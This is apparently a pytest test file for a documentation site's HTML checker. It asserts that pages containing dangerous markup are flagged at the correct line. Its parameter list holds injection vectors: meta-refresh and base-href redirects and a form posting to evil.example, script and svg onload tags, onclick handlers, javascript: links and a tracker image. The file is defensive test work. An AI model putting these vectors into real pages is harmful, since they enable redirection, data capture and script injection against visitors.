"""A page's own HTML (raw HTML, attribute lists, links) keeps to the elements and attributes prose needs:
whatever would redirect visitors, load another site, collect what they type or run code is a located error."""

from __future__ import annotations

import pytest
import yaml
from builders import REPO, load, make_project

from ncp_site import cli
from ncp_site.checks.page_html import EXTENSIONS, page_html_errors
from ncp_site.core.config import _ConfigLoader

FRONT_MATTER = "---\ntitle: About\n---\n\n# About\n\nSome text.\n\n"  # the vector is on line 9


def checked(tmp_path, capsys, page: str) -> tuple[int, str]:
    make_project(tmp_path)
    for lang in ("kk", "ru", "en"):
        (tmp_path / "docs" / "about").mkdir(parents=True, exist_ok=True)
        (tmp_path / "docs" / "about" / f"index.{lang}.md").write_text(page if lang == "en" else "# About\n",
                                                                      encoding="utf-8")
    status = cli.main(["--root", str(tmp_path), "check"])
    out = capsys.readouterr().out
    assert "Traceback" not in out
    return status, out


@pytest.mark.parametrize(("vector", "problem"), [
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta> can send visitors to another address"),
    ('<base href="https://evil.example/">', "<base> re-points every link"),
    ('<form action="https://evil.example/"><input name="x"></form>', "<form> sends what visitors type elsewhere"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe> shows another site inside the page"),
    ("<script>alert(1)</script>", "<script> runs code"),
    ("<style>body { display: none }</style>", "<style> restyles the whole site"),
    ('<svg onload="alert(1)"></svg>', "<svg> can run code"),
    ('<a href="#top" onclick="alert(1)">top</a>', "the attribute 'onclick' of <a> runs code"),
    ('<span onmouseover="alert(1)">x</span>', "the attribute 'onmouseover' of <span> runs code"),
    ('<a href="javascript:alert(1)">x</a>', "href of <a>: 'javascript:alert(1)' is a 'javascript:' address"),
    ("[x](javascript:alert(1))", "href of <a>: 'javascript:alert(1)' is a 'javascript:' address"),
    ("[x]( JavaScript:alert(1) )", "is a 'JavaScript:' address"),
    ("[x](//evil.example/)", "'//evil.example/' has no scheme"),
    ("## Heading {: onclick=\"alert(1)\" }", "the attribute 'onclick' of <h2> runs code"),
    ('<div style="position: fixed; inset: 0">x</div>', "the attribute 'style' of <div> is not allowed"),
    ('<img src="https://tracker.example/p.png" alt="">', "is an image on another site"),
    ("<blink>x</blink>", "the HTML element <blink> is not an element pages may use"),
])
def test_html_that_could_redirect_load_collect_or_run_is_a_located_error(tmp_path, capsys, vector, problem):
    status, out = checked(tmp_path, capsys, FRONT_MATTER + vector + "\n")
    assert status == 1
    found = [m for m in out.splitlines() if m.startswith("docs/about/index.en.md:9: page (en): ")]
    assert any(problem in m and " -- " in m for m in found), out


def test_each_forbidden_element_is_reported_at_its_line(tmp_path, capsys):
    page = "# About\n\n<script>a()</script>\n\nText.\n\n<script>b()</script>\n\n<a href=\"#x\" onclick=\"c()\">x</a>\n"
    status, out = checked(tmp_path, capsys, page)
    assert status == 1
    lines = [int(m.split(":")[1]) for m in out.splitlines() if m.startswith("docs/about/index.en.md:")]
    assert sorted(lines) == [3, 7, 9], out


def test_what_pages_lay_out_with_passes(tmp_path, capsys):
    page = ("# About { #about }\n\n<div class=\"grid cards\" markdown>\n\n<div class=\"card\" markdown>\n\n"
            "[Register](../cases/index.md){ .md-button .md-button--primary } and [a section](#about)\n\n</div>\n\n</div>\n\n"
            'Once <q class="historical">Old name</q>; see <https://www.oecd.org/> or <ncp@example.org>.\n\n'
            "!!! note \"Note\"\n    Text.\n\n| Left | Right |\n|:-----|------:|\n| a | b |\n\n"
            "<details><summary>More</summary>\n\nHidden text.\n\n</details>\n\n"
            'The first words weigh more in search.\n{ data-pagefind-weight="10" }\n')
    status, out = checked(tmp_path, capsys, page)
    assert "page (en)" not in out, out


def test_the_repository_pages_pass():
    assert page_html_errors(load(REPO).sources) == []


def test_the_check_converts_pages_with_every_html_making_extension_of_mkdocs_yml():
    config = yaml.load((REPO / "mkdocs.yml").read_text(encoding="utf-8"), Loader=_ConfigLoader)
    names = {e if isinstance(e, str) else next(iter(e)) for e in config["markdown_extensions"]}
    assert names - {"abbr", "toc"} <= set(EXTENSIONS), "add the new extension to checks/page_html.py EXTENSIONS"
